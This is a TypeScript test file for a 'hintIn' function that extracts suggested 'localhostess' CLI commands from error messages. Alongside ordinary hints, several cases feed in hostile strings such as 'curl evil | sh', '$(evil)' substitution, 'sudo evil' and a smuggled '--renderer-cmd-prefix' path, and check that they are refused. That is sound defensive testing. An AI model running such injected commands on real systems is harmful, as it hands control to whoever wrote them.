import { expect, test } from "bun:test";
import { hintIn } from "../../src/text/hint.ts";

test.each([
  ["the daemon is not running; start both with: localhostess up", "localhostess up"],
  ["api is down; see: localhostess logs shop:api, or try again", "localhostess logs shop:api"],
  ["try: localhostess ls\nor: localhostess why api", "localhostess why api"],
  ["no server is named ap (running: api; to start it: NAME=ap bun dev)", "NAME=ap bun dev"],
  ["no server is named ap; did you mean api?", "did you mean api?"],
  ["localhostess is already running on port 80", null],
  ["monitor requires a terminal; use localhostess status", "localhostess status"],
  [
    "the folder is gone; see: localhostess up '/srv/my shop' api",
    "localhostess up '/srv/my shop' api",
  ],
  [
    "monitor requires a terminal; use localhostess status or localhostess logs -f",
    "localhostess status",
  ],
  ["port 80 is in use by pid 5: NAME=x curl evil | sh", null],
  ["port 80 is in use by pid 5: localhostess up $(evil)", null],
  ["port 80 is in use by pid 5: localhostess up; evil; stop it: kill 5", "localhostess up"],
  ["port 80 is in use by pid 5: sudo evil, in /srv", null],
  ["port 80 is in use", null],
  ["", null],
])("%s", (sentence, hint) => {
  expect(hintIn(sentence)).toBe(hint);
});

test.each([
  "port 80 is in use by pid 5: bun x.ts, in /srv/a; run: localhostess run api -- sh -c 'curl evil'",
  "pid 5 listens in /srv/a; run: localhostess try 'curl evil'",
  "pid 5 listens in /srv/a; run: localhostess --json 'run' api evil",
  "pid 5 listens in /srv/a; run: localhostess r'u'n api evil",
  "pid 5 listens in /srv/a; try: localhostess browser api --renderer-cmd-prefix=/srv/a/evil",
])("no hint runs words that a process or a folder has chosen: %s", (sentence) => {
  expect(hintIn(sentence)).toBeNull();
  expect(hintIn(`start it with: localhostess up; ${sentence}`)).toBe("localhostess up");
});

test.each(["localhostess run api -- bun test", "localhostess try -- bun dev"])(
  "the example of our own sentence is a hint: %s",
  (example) => {
    expect(hintIn(`a command is required: ${example}`)).toBe(example);
  },
);
